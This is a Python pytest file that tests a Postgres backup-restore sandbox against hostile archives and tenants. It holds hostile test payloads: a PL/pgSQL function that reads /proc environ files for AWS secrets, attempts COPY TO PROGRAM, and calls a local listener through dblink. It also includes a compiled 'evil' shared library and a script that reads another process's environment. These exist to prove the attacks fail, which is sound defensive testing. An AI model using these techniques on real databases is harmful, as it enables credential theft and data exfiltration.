"""What lies inside of an archive gets nothing when a drill restores it in the function."""

import os
import signal
import socket
import subprocess
import threading
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any, Self

import psutil
import psycopg
import pytest

from layers.build import BUILD
from layers.postgres.lock import read
from layers.postgres.shim import SHIM, compile_shim
from lifeboat.settings import Settings
from local.postgres import PostgresServer
from tests.sandbox.box import PYTHON, Box
from tests.sandbox.conftest import DRILL, Deployed, Start
from tests.sandbox.function import Function
from tests.sandbox.intruder import ATTEMPTS, CALLING, PLANTED, Scene
from tests.sandbox.seccomp import LANDLOCK, SYSTEM_V_IPC, filter_file
from tests.support.backup_harness import Database, eventually

MAJORS = (14, 18)
_DATABASE = {
    "name": "app",
    "secret_arn": "arn:aws:secretsmanager:us-east-1:000000000000:secret:not-AbCdEf",
}
SETTINGS = Settings.model_validate({"databases": [_DATABASE]})
_NOTHING_STOLEN = {
    "name": "nothing was stolen",
    "sql": "SELECT setconfig FROM pg_catalog.pg_db_role_setting"
    " WHERE setconfig::text LIKE '%stolen.things%'",
    "expect": "rows = 0",
}
ASKING = Settings.model_validate({"databases": [{**_DATABASE, "validation": [_NOTHING_STOLEN]}]})


class Listener:
    """Somebody on the network, such as Lambda's runtime API, who notices every caller."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]
        self._callers = 0
        self._thread = threading.Thread(target=self._answer)

    def was_called(self) -> bool:
        """Since this was asked the last time."""
        callers, self._callers = self._callers, 0
        return callers > 0

    def _answer(self) -> None:
        """Hang up at once, until the socket is shut."""
        with suppress(OSError):
            while True:
                self._socket.accept()[0].close()
                self._callers += 1

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._thread.join()
        self._socket.close()


@pytest.fixture(scope="session")
def library(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """Machine code that runs as soon as it is loaded."""
    into = tmp_path_factory.mktemp("evil")
    source = Path(__file__).with_name("evil.c")
    compile_shim(into, "x86_64", read(), build=BUILD, source=source)
    return (into / SHIM).read_bytes()


def loads(process: psutil.Process) -> bool:
    return any("--jobs" in word for word in process.cmdline())


def scene_of(function: Function, restoring: psutil.Process, library: bytes, port: int) -> Scene:
    """The server of the drill that stands still in the function, made to trust everybody.

    Whoever restores is no superuser there, and nobody logs in without a password. What the walls
    hold is tried as if both were otherwise.
    """
    named = [each for each in function.descendants() if each.name() == "postgres"]
    (server,) = (each for each in named if each.ppid() not in {other.pid for other in named})
    data = server.cmdline()[server.cmdline().index("-D") + 1]
    run = data.rpartition("/")[0]
    root = Path(f"/proc/{server.pid}/root")
    superuser = restoring.environ()["PGUSER"].replace("_restorer", "_admin")
    (root / data.removeprefix("/") / "pg_hba.conf").write_text("local all all trust\n")
    server.send_signal(signal.SIGHUP)

    def connect(user: str) -> psycopg.Connection:
        host = f"{root}{run}/socket"
        return psycopg.connect(host=host, user=user, dbname="postgres", autocommit=True)

    status = Path(f"/proc/{server.ppid()}/status").read_text()
    (numbers,) = (line for line in status.splitlines() if line.startswith("NSpid:"))
    return Scene(root, run, int(numbers.split()[-1]), port, library, connect, superuser)


def trusts(scene: Scene) -> bool:
    """Whether the server has read that it is to."""
    with suppress(psycopg.OperationalError):
        return scene.ask("SELECT current_setting('is_superuser')") == "on"
    return False


@dataclass(frozen=True)
class Ended:
    """What the attempts got, and how the drill ended after all of them."""

    gained: dict[str, bool]
    answer: dict[str, Any]
    log: str


@pytest.fixture(scope="module", params=[(14, True), (18, True), (18, False)], ids=str)
def ended(
    request: pytest.FixtureRequest,
    start: Start,
    drill_box: Box,
    warm: Deployed,
    library: bytes,
    server_of: Callable[[int], PostgresServer],
) -> Ended:
    """A drill of an innocent backup, in whose midst the server's superuser tries everything.

    On a kernel of today, and on one that is too old for Landlock.
    """
    major, has_landlock = request.param
    database = Database.create(server_of(major), f"innocent_{major}_{has_landlock}".lower())
    database.run("CREATE TABLE few AS SELECT generate_series(1, 100) AS n")
    warm.rotate(database.url)
    event = {"database": "app", "backup": warm.function.invoke(warm.event())["backup"]}
    box = drill_box if has_landlock else replace(drill_box, refused=(*SYSTEM_V_IPC, *LANDLOCK))
    with (
        Listener() as listener,
        start(box, DRILL, vault=warm.vault, settings=SETTINGS) as function,
        function.stopped_at(event, "pg_restore", when=loads) as stopped,
    ):
        scene = scene_of(function, stopped.programs["pg_restore"], library, listener.port)
        eventually(lambda: trusts(scene))
        gained = {name: attempt(scene) for name, attempt in ATTEMPTS.items()}
        for call in CALLING:
            call(scene)
            gained[call.__name__] = listener.was_called()
        stopped.resume()
        answer = stopped.answer.result()
        return Ended(gained, answer, function.log())


@pytest.mark.parametrize("attempt", [*ATTEMPTS, *(call.__name__ for call in CALLING)])
def test_a_superuser_of_the_drills_server_gets_nothing_by(ended: Ended, attempt: str) -> None:
    assert not ended.gained[attempt]


def test_after_all_of_that_the_drill_ends_as_if_nothing_had_been(ended: Ended) -> None:
    assert ended.answer.get("verdict") == "proven", (ended.answer, ended.log)
    assert PLANTED not in ended.log


@pytest.mark.parametrize("major", MAJORS)
def test_a_tenants_check_steals_nothing_and_changes_no_verdict(
    start: Start,
    drill_box: Box,
    warm: Deployed,
    server_of: Callable[[int], PostgresServer],
    major: int,
) -> None:
    """The role owns one schema and has no other right; its code runs wherever rows are loaded."""
    database = Database.create(server_of(major), f"tenants_{major}")
    with Listener() as listener:
        database.run("CREATE ROLE tenant", *_hostile(listener.port))
        warm.rotate(database.url)
        event = {"database": "app", "backup": warm.function.invoke(warm.event())["backup"]}
        with start(drill_box, DRILL, vault=warm.vault, settings=ASKING) as function:
            answer = function.invoke(event)
            assert answer.get("verdict") == "proven", (answer, function.log())
            assert not listener.was_called()
            assert function.temporary_files() == []


def _hostile(port: int) -> list[str]:
    return [
        "CREATE SCHEMA pub AUTHORIZATION tenant",
        "SET ROLE tenant",
        _STEAL.replace("{port}", str(port)),
        "CREATE TABLE pub.t (x int CHECK (pub.steal(x) > 0))",
        "INSERT INTO pub.t SELECT generate_series(1, 11)",
        "CREATE FUNCTION pub.kept(x int) RETURNS int LANGUAGE plpgsql IMMUTABLE"
        " AS 'BEGIN RETURN pub.steal(x); END'",
        "CREATE INDEX ON pub.t (pub.kept(x))",
        "CREATE MATERIALIZED VIEW pub.seen AS SELECT pub.steal(x) FROM pub.t LIMIT 1",
        "RESET ROLE",
    ]


#: Innocent where it lives; elsewhere it tries, and writes what it got where it can be asked for.
_STEAL = r"""
CREATE FUNCTION pub.steal(x int) RETURNS int LANGUAGE plpgsql AS $code$
DECLARE
    found text := '';
    pid int;
BEGIN
    IF pg_catalog.current_database() LIKE 'tenants!_%' ESCAPE '!' THEN
        RETURN x;
    END IF;
    FOR pid IN 1..40 LOOP
        BEGIN
            IF pg_catalog.encode(pg_catalog.pg_read_binary_file(
                '/proc/' || pid || '/environ', 0, 100000), 'escape') LIKE '%AWS_SECRET%' THEN
                found := found || ' environ';
            END IF;
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    BEGIN
        EXECUTE 'COPY (SELECT 1) TO PROGRAM ''cat''';
        found := found || ' program';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        EXECUTE 'CREATE EXTENSION IF NOT EXISTS dblink';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        EXECUTE 'SELECT public.dblink_connect(''host=127.0.0.1 port={port} connect_timeout=2'')';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    IF found <> '' THEN
        EXECUTE 'ALTER ROLE tenant SET stolen.things = ' || pg_catalog.quote_literal(found);
    END IF;
    RETURN x;
END $code$
"""


#: A child of a handler's process reads what that one was started with, before and after.
_PEEK = """
import os, subprocess, sys
from lifeboat.runtime.hidden_memory import hide_memory
spy = "import sys; print('BAIT' in open('/proc/' + sys.argv[1] + '/environ').read())"
def look():
    argv = [sys.executable, "-I", "-c", spy, str(os.getpid())]
    return subprocess.run(argv, capture_output=True, text=True, env={"LD_LIBRARY_PATH": "/lib64"})
print(look().stdout.strip())
hide_memory()
print(look().stderr.strip().splitlines()[-1])
"""


def test_no_child_of_a_handler_can_read_its_environment(drill_box: Box) -> None:
    """On any kernel, and for any program, jailed or not."""
    filter_fd = filter_file()
    done = subprocess.run(
        drill_box.argv([PYTHON, "-c", _PEEK], {"BAIT": "x"}, filter_fd=filter_fd),
        pass_fds=[filter_fd],
        capture_output=True,
        text=True,
        check=False,
    )
    os.close(filter_fd)
    before, after = done.stdout.splitlines()
    assert before == "True", done.stderr
    assert "Permission denied" in after
